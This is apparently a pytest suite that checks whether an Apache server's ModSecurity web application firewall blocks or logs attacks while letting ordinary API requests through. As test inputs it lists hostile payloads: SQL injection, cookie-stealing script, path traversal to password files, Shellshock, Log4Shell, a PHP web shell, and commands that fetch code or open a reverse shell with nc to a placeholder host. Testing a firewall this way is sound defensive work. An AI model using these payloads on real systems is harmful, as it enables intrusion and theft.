"""The key waf: attacks and usual requests, sent to a real Apache with the distribution's ModSecurity and rule set."""

from __future__ import annotations

import json
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest
from front_server import Front, running
from httpd_modules import CACHE, run
from system.test_templates import ONE, THREE, TWO, app, mod_wsgi

pytestmark = pytest.mark.debian_packages("apache2", "apache2-dev", "python3-dev", "openssl")
__all__ = ["mod_wsgi"]

BLOCK, DETECT, OFF = 18331, 18332, 18333
PACKAGES = ("libapache2-mod-security2", "modsecurity-crs", "liblua5.1-0", "libyajl2")


@pytest.fixture(scope="session")
def waf() -> Path:
    """The files of the packages, kept in .cache: the machine's own Apache does not get them."""
    folder = CACHE / "modsecurity"
    if not (folder / "complete").exists():
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
        run("apt-get", "download", *PACKAGES, cwd=folder)
        for package in folder.glob("*.deb"):
            run("dpkg", "-x", package, folder)
        (folder / "complete").touch()
    # Apache's processes read the rules when it starts as root.
    return folder


@pytest.fixture(scope="module")
def front(mod_wsgi: dict[str, Path], waf: Path) -> Iterator[Front]:
    apps = [
        app(ONE, listen=BLOCK, waf="block", max_body=2 << 20, processes=1, threads=2),
        app(TWO, listen=DETECT, waf="detect", processes=1, threads=2),
        app(THREE, listen=OFF, processes=1, threads=2),
    ]
    with running(mod_wsgi, apps, waf=waf, wsgi_app_door="127.0.0.1:18282") as server:
        yield server


# By the kind of attack, as the rule set divides them: values of a parameter.
ATTACKS = {
    "injection of SQL": [
        "1' OR '1'='1' -- ",
        "1 UNION SELECT username, password FROM users",
        "1; DROP TABLE samples; --",
        "1' AND SLEEP(5)#",
        "admin'/**/OR/**/1=1#",
    ],
    "script in a page": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.cookie)>",
        "javascript:alert(1)//<svg/onload=alert(1)>",
    ],
    "other files": ["../../../../etc/passwd", "..%2f..%2fetc%2fshadow", "/etc/passwd", "file:///etc/passwd"],
    "commands": ["; cat /etc/passwd", "$(wget http://192.0.2.1/x)", "`id`; uname -a", "| nc -e /bin/sh 192.0.2.1 4444"],
    "code": ["<?php system($_GET[1]); ?>", "${jndi:ldap://192.0.2.1/a}", "eval(base64_decode('cGhwaW5mbygp'))"],
    "included files": ["http://192.0.2.1/shell.php?", "https://192.0.2.1/x.txt?cmd=id"],
}
SAMPLES = [value for values in ATTACKS.values() for value in values]


def post(front: Front, port: int, path: str, body: bytes, content_type: str, method: str = "POST") -> int:
    lines = (f"{method} {path} HTTP/1.1", "Host: shop.test", "User-Agent: test", "Accept: */*", "Connection: close")
    length = (f"Content-Type: {content_type}", f"Content-Length: {len(body)}")
    answer = front.send(port, "\r\n".join([*lines, *length, "", ""]).encode() + body)
    return int(answer.split()[1])


def get(front: Front, port: int, path: str, *headers: str) -> int:
    return front.ask(port, path, "User-Agent: test", "Accept: */*", *headers, host="shop.test").status


@pytest.mark.parametrize("sample", SAMPLES)
def test_attacks_are_blocked_and_detected(front: Front, sample: str) -> None:
    form, document = urlencode({"q": sample}).encode(), json.dumps({"q": {"field": sample}}).encode()
    statuses = {
        port: [
            get(front, port, f"/?q={quote(sample)}"),
            post(front, port, "/", form, "application/x-www-form-urlencoded"),
            post(front, port, "/", document, "application/json"),
        ]
        for port in (BLOCK, DETECT, OFF)
    }
    assert statuses == {BLOCK: [403] * 3, DETECT: [200] * 3, OFF: [200] * 3}


@pytest.mark.parametrize(
    "lines",
    [
        ("User-Agent: sqlmap/1.7",),
        ("User-Agent: () { :; }; /bin/bash -c 'cat /etc/passwd'",),
        ("Cookie: id=1' UNION SELECT password FROM users--",),
    ],
)
def test_attacks_in_headers(front: Front, lines: tuple[str, ...]) -> None:
    statuses = [front.ask(port, "/", "Accept: */*", *lines, host="shop.test").status for port in (BLOCK, DETECT, OFF)]
    assert statuses == [403, 200, 200]


def log(front: Front, name: str) -> str:
    path = front.root / "logs" / f"{name}-error.log"
    return path.read_text() if path.exists() else ""


def test_what_is_detected_stands_in_the_log_of_the_application(front: Front) -> None:
    get(front, DETECT, "/?q=" + quote("1 UNION SELECT password FROM users"))
    get(front, OFF, "/?q=" + quote("1 UNION SELECT password FROM users"))
    # rotatelogs writes the file.
    end = time.monotonic() + 60
    while not all(text in log(front, TWO) for text in ("OWASP_CRS", "SQL Injection")):
        assert time.monotonic() < end, log(front, TWO)
        time.sleep(0.05)
    assert "ModSecurity" not in log(front, THREE)
    assert not list(front.root.glob("logs/*audit*"))


USUAL = {
    "a token": ("GET", "/v3/auth/tokens", None),
    "a query": ("GET", "/v2/meters/cpu?q.field=timestamp&q.op=ge&q.value=2026-01-01T00:00:00&limit=10", None),
    "a list": ("GET", "/v2.1/servers/detail?all_tenants=1&status=ACTIVE&sort_key=created_at&sort_dir=desc", None),
    "a new resource": ("POST", "/v2.1/servers", {"server": {"name": "first", "imageRef": "a1b2", "networks": "auto"}}),
    "a change": ("PUT", "/v2.0/ports/7d1f", {"port": {"name": "eth0", "fixed_ips": [{"ip_address": "192.0.2.4"}]}}),
    "a small change": ("PATCH", "/v3/projects/7d1f", {"project": {"description": "O'Brien & sons, since 1990"}}),
    "a deletion": ("DELETE", "/v2.1/servers/7d1f", None),
}


@pytest.mark.parametrize("name", USUAL)
def test_usual_requests_pass(front: Front, name: str) -> None:
    method, path, body = USUAL[name]
    if body is not None:
        assert post(front, BLOCK, path, json.dumps(body).encode(), "application/json", method) == 200
        return
    token = "X-Auth-Token: gAAAAABmZ0-_" + "Ab0_-" * 36
    answer = front.ask(BLOCK, path, "User-Agent: test", "Accept: */*", token, host="shop.test", method=method)
    assert answer.status == 200, front.error_log()[-1500:]


def test_the_check_of_a_deployment_passes(front: Front) -> None:
    """It asks the address, with few headers."""
    assert front.ask(BLOCK, "/", "User-Agent: grove", "Accept-Encoding: identity").status == 200


@pytest.mark.parametrize(("size", "status"), [(1 << 20, 200), ((2 << 20) + 1, 413)])
def test_bodies_have_the_limit_of_the_record(front: Front, size: int, status: int) -> None:
    body = b'{"data": "' + b"a" * (size - 12) + b'"}'
    assert post(front, BLOCK, "/", body, "application/json") == status


def test_a_body_that_cannot_be_read_is_refused(front: Front) -> None:
    assert post(front, BLOCK, "/", b'{"q": x}', "application/json") == 400
    assert post(front, DETECT, "/", b'{"q": x}', "application/json") == 200
    # ModSecurity 2.9 answers so to a document that ends too early, whatever its mode.
    assert [post(front, port, "/", b'{"q": ', "application/json") for port in (BLOCK, DETECT, OFF)] == [500, 500, 200]


@pytest.mark.parametrize("sample", ["plain text", "1 UNION SELECT username, password FROM users"])
def test_bodies_without_a_length_are_searched(front: Front, sample: str) -> None:
    body = json.dumps({"q": sample})
    lines = ("User-Agent: test", "Accept: */*", "Content-Type: application/json", "Transfer-Encoding: chunked")
    chunks = f"{len(body):x}\r\n{body}\r\n0\r\n\r\n"
    for port in (BLOCK, DETECT, OFF):
        answer = front.ask(port, "/read", *lines, host="shop.test", method="POST", content=chunks)
        if port == BLOCK and "UNION" in sample:
            assert answer.status == 403
        else:
            assert (answer.environ["read"], answer.environ["CONTENT_LENGTH"]) == (str(len(body)), str(len(body)))


@pytest.mark.parametrize(("size", "status"), [(1 << 20, 200), ((2 << 20) + 1, 413)])
def test_bodies_without_a_length_have_the_limit_of_the_record(front: Front, size: int, status: int) -> None:
    body = '{"data": "' + "a" * (size - 12) + '"}'
    lines = ("User-Agent: test", "Accept: */*", "Content-Type: application/json", "Transfer-Encoding: chunked")
    chunks = f"{size:x}\r\n{body}\r\n0\r\n\r\n"
    answer = front.ask(BLOCK, "/read", *lines, host="shop.test", method="POST", content=chunks)
    assert answer.status == status
    if status == 200:
        assert answer.environ["read"] == str(size)
